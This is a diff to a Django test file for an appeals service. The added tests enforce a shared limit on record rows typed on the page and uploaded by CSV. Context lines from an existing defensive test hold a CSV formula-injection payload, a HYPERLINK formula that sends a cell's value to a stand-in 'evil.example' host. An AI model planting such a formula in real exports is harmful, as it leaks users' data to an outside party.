@@ -401,7 +401,97 @@ def test_csv_formula_injection_is_inert_in_the_console_and_its_export(client, ap
     html = client.get(reverse("desk:appeal", args=[appeal.reference])).content.decode()
     assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html
     assert 'href="http://evil.example' not in html
-    export = client.get(reverse("desk:records_csv", args=[appeal.reference])).content.decode()
+    export = b"".join(client.get(reverse("desk:records_csv", args=[appeal.reference])).streaming_content).decode()
     rows = list(csv.reader(io.StringIO(export)))
     (row,) = [r for r in rows if r[2] == "TX-1"]
     assert row[5] == "'" + payload
+
+
+# --- Records: at most APPEAL_MAX_RECORD_ROWS of each kind, rows on the page and CSV rows together ---
+
+
+def count_device_record_validations(monkeypatch) -> list:
+    """Count every login-device row the server validates (page rows and CSV rows alike)."""
+    from tickets.forms import LoginDeviceRecordForm
+
+    calls = []
+    full_clean = LoginDeviceRecordForm.full_clean
+
+    def counting(form):
+        calls.append(1)
+        return full_clean(form)
+
+    monkeypatch.setattr(LoginDeviceRecordForm, "full_clean", counting)
+    return calls
+
+
+def test_a_csv_of_130000_rows_is_refused_after_reading_just_past_the_limit(
+    client, appeal_types, evidence_root, settings, monkeypatch
+):
+    appeal_type = appeal_types["account_recovery"]
+    content = files.many_rows_records_csv_bytes(130_000)
+    assert len(content) <= settings.EVIDENCE_MAX_CSV_BYTES
+    validated = count_device_record_validations(monkeypatch)
+    data = submission(appeal_type, device_csv=files.upload("devices.csv", content, "text/csv"))
+    response = post_appeal(client, appeal_type, data)
+    assert response.status_code == 400
+    message = ("Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file "
+               "together.")
+    assert response.context["form"].uploads.errors["device_csv"] == [message]
+    assert message in response.content.decode()
+    # The page's row and the CSV rows up to the limit: the rest of the file is never validated.
+    assert len(validated) <= settings.APPEAL_MAX_RECORD_ROWS + 2
+    assert_nothing_stored(evidence_root)
+    assert LoginDeviceRecord.objects.count() == 0
+
+
+def records_csv(rows: int) -> bytes:
+    return b"order_number,amount,currency,paid_at\n" + b"".join(b"TX-%d,1,CNY,2026-10-01\n" % i for i in range(rows))
+
+
+def test_page_rows_and_csv_rows_over_the_limit_together_are_refused(client, appeal_types, evidence_root):
+    appeal_type = appeal_types["account_recovery"]
+    # One recharge row typed on the page (from `submission`) and 200 in the CSV: 201 of the 200 allowed.
+    data = submission(appeal_type, recharge_csv=files.upload("r.csv", records_csv(200), "text/csv"))
+    response = post_appeal(client, appeal_type, data, HTTP_ACCEPT="application/json")
+    assert response.status_code == 400
+    assert response.json()["errors"]["recharge_csv"] == [
+        "Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file together."
+    ]
+    assert_nothing_stored(evidence_root)
+
+
+def test_page_rows_and_csv_rows_up_to_the_limit_are_accepted(client, appeal_types):
+    appeal_type = appeal_types["account_recovery"]
+    data = submission(appeal_type, recharge_csv=files.upload("r.csv", records_csv(199), "text/csv"))
+    assert post_appeal(client, appeal_type, data).status_code == 302
+    assert RechargeRecord.objects.count() == 200
+
+
+def test_the_page_rows_share_the_same_configurable_limit(client, appeal_types, evidence_root, settings):
+    settings.APPEAL_MAX_RECORD_ROWS = 3
+    appeal_type = appeal_types["account_recovery"]
+    html = client.get(reverse("tickets:new", args=[appeal_type.code]), HTTP_ACCEPT_LANGUAGE="en").content.decode()
+    assert 'name="recharge-MAX_NUM_FORMS" value="3"' in html
+    assert "Up to 3 records of this kind: the rows here and the rows of the CSV file together." in html
+
+    data = submission(appeal_type)
+    data.update(records_management(recharge=4, device=1))
+    for i in range(1, 4):
+        data.update({f"recharge-{i}-order_number": f"TX-{i}", f"recharge-{i}-amount": "1",
+                     f"recharge-{i}-currency": "CNY", f"recharge-{i}-paid_at": "2026-11-02T10:00"})
+    response = post_appeal(client, appeal_type, data)
+    assert response.status_code == 400
+    assert response.context["form"].recharge.non_form_errors() == [
+        "Too many records: at most 3 of each kind per appeal."
+    ]
+    assert_nothing_stored(evidence_root)
+
+    data = submission(appeal_type, device_csv=files.upload("d.csv", b"seen_at,device_model\n" + b"2026-10-01,A\n" * 3,
+                                                           "text/csv"))
+    response = post_appeal(client, appeal_type, data)
+    assert response.status_code == 400
+    assert response.context["form"].uploads.errors["device_csv"] == [
+        "Too many records: at most 3 of each kind per appeal, rows on the page and rows in the CSV file together."
+    ]
+    assert_nothing_stored(evidence_root)
